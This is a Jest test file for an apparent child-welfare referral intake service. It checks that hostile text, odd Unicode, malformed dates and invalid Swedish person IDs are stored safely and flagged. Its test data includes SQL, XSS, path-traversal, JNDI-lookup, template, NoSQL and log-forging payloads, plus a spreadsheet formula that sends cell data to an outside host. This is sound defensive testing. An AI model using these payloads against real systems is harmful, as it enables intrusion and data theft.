import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { isOpaqueId } from '@varsam/contracts';
import { hash } from 'node:crypto';
import { headers } from '@nats-io/transport-node';
import { verifyProof } from '@varsam/service-kit';
import { eventually } from '@varsam/testing';
import { BrokerDoor } from './broker-door.suite.js';
import { leafOf } from './persistence/sealed-log.js';
import { bytesOf, childOf, reportOf } from './report.suite.js';
import type { Report } from './report.suite.js';
import { RunningReferrals } from './running-referrals.suite.js';

interface Receipt {
  readonly reportId: string;
  readonly receivedAt: string;
  readonly warnings: readonly { readonly pointer: string; readonly slug: string }[];
  readonly proof: Parameters<typeof verifyProof>[1];
}

let referrals: RunningReferrals;
let door: BrokerDoor;

beforeAll(async () => {
  referrals = await RunningReferrals.start();
  door = await BrokerDoor.open(referrals.nats.url);
}, 60_000);

afterAll(async () => {
  await door.close();
  await referrals.stop();
});

const doors: readonly (readonly [string, (body: Buffer) => Promise<string>])[] = [
  ['HTTPS', async (body) => (await referrals.post(body)).text()],
  ['NATS', async (body) => (await door.ask(body)).text],
];

/** The report as a social worker sees it. */
async function shown(reportId: unknown): Promise<Report> {
  const [row] = await referrals.rows<{ child_id: string }>('select child_id from concern where report_id = $1', [reportId]);
  const answer = await referrals.request(`children/${row?.child_id}`, await referrals.signIn.staff('socialWorker'));
  const { concerns } = (await answer.json()) as { concerns: readonly { readonly report: Report }[] };
  return concerns.find(({ report }) => report['reportId'] === reportId)!.report;
}

const hostile: readonly (readonly [string, string])[] = [
  ['SQL', `'); drop table concern; --`],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a spreadsheet formula', '=HYPERLINK("http://x/?"&A1)'],
  ['a line of a log', 'hej\r\n{"level":"fatal","msg":"forged"}'],
  ['a path', '../../../../etc/passwd'],
  ['a template', '${7*7}{{7*7}}%s%n'],
  ['a look-up', '${jndi:ldap://127.0.0.1/a}'],
  ['another database’s operator', '{"$ne":null}'],
];

describe.each(doors)('over %s', (_door, send) => {
  it.each(hostile)('%s in every text is text: kept and shown as it came', async (_what, text) => {
    const report = reportOf({
      sourceSystem: text,
      child: { name: text, description: text },
      concern: { types: [text], description: text },
    });
    const receipt = JSON.parse(await send(bytesOf(report))) as Receipt;
    expect(receipt.reportId).toBe(report['reportId']);
    expect(JSON.stringify(receipt)).not.toContain(JSON.stringify(text).slice(1, -1));
    expect(await shown(report['reportId'])).toEqual(report);
  });

  it.each(hostile)('%s as an id is an id, or the report is called by a mark of it', async (_what, text) => {
    const receipt = JSON.parse(await send(bytesOf(reportOf({ reportId: text })))) as Receipt;
    expect(receipt.reportId).toEqual(isOpaqueId(text) ? text : expect.stringMatching(/^[0-9a-f]{32}$/));
    expect(await referrals.rows('select 1 from concern where report_id = $1', [receipt.reportId])).toHaveLength(1);
  });

  it('a name in decomposed letters is proved by its own bytes and shown as it came', async () => {
    const report = reportOf({ child: { name: 'A\u030asa O\u0308rn' } });
    const body = bytesOf(report);
    const { reportId, receivedAt, proof, warnings } = JSON.parse(await send(body)) as Receipt;
    const said = {
      kommunkod: '0486',
      partnerId: 'skola-01',
      reportId,
      receivedAt: new Date(receivedAt),
      bodyHash: hash('sha256', body, 'buffer'),
    };
    expect([verifyProof(leafOf(said), proof, referrals.keys.signingKey().public), warnings]).toEqual([true, []]);
    expect(await shown(reportId)).toEqual(report);
  });

  it('a text that turns its direction is kept as it came, and reception is told', async () => {
    const report = reportOf({ child: { name: 'Elis\u202edeltset' } });
    const { reportId, warnings } = JSON.parse(await send(bytesOf(report))) as Receipt;
    expect(warnings).toMatchObject([{ pointer: '', slug: 'odd-text' }]);
    expect(await shown(reportId)).toEqual(report);
  });

  const oddities: readonly (readonly [string, Report, readonly string[]])[] = [
    [
      'a number beyond what is exact',
      { school: { validAbsencePercent: 9007199254740993n.toString() } },
      ['/school/validAbsencePercent wrong-type'],
    ],
    ['a number below nothing', { school: { validAbsencePercent: -0.5 } }, ['/school/validAbsencePercent too-small']],
    ['the year nought', { occurredAt: '0000-01-01T00:00:00Z' }, []],
    ['the year 9999', { occurredAt: '9999-12-31T23:59:59Z' }, []],
    ['an instant without its offset', { sentAt: '2026-03-20T14:52:10' }, ['/sentAt wrong-form']],
    ['30 February', { sentAt: '2026-02-30T14:52:10Z' }, ['/sentAt invalid-date-time']],
    ['a number of somebody over a hundred', { child: childOf('900101+9802') }, []],
    ['a number with ten digits', { child: childOf('130101-2397') }, []],
    ['a samordningsnummer', { child: childOf('200804752384', 'SAMORDNINGSNUMMER') }, []],
    ['a reserve number', { child: childOf('201302RSV123', 'RESERVE') }, []],
    ['a number with a wrong check digit', { child: childOf('201001012391') }, ['/child/personId/value invalid-person-id']],
    ['a number of a day that does not exist', { child: childOf('201002302386') }, ['/child/personId/value invalid-person-id']],
    ['a number that is too short', { child: childOf('20100101239') }, ['/child/personId/value invalid-person-id']],
  ];

  it.each(oddities)('%s is received', async (_what, change, expected) => {
    const report = reportOf(change);
    const { reportId, warnings } = JSON.parse(await send(bytesOf(report))) as Receipt;
    expect([reportId, warnings.map(({ pointer, slug }) => `${pointer} ${slug}`)]).toEqual([report['reportId'], expected]);
    expect(await shown(reportId)).toEqual(JSON.parse(JSON.stringify(report)));
  });
});

describe('the broker door', () => {
  it('reads no header as if it were the message', async () => {
    const hostileHeaders = headers();
    for (const [name, value] of [
      ['Content-Type', 'text/html'],
      ['traceparent', '00-<script>-x-01'],
      ['kommunkod', '0380'],
      ['partnerId', 'polis-01'],
      ['Nats-Expected-Stream', 'INTAKE'],
    ])
      hostileHeaders.append(name!, value!);
    const report = reportOf();
    const before = door.heard.length;
    await door.publishRaw(bytesOf(report), hostileHeaders);
    const { subject, text } = await eventually('an answer', () => door.heard[before]);
    expect([subject, (JSON.parse(text) as Receipt).reportId]).toEqual(['receipt.0486.skola-01.receipt.v1', report['reportId']]);
  });

  it('lets in nothing larger than a message may be', async () => {
    await expect(door.offer(Buffer.alloc(400 * 1024, 'x'))).resolves.toMatchObject({ ok: false });
    expect((await door.ask(bytesOf(reportOf()))).subject).toBe('receipt.0486.skola-01.receipt.v1');
  });
});
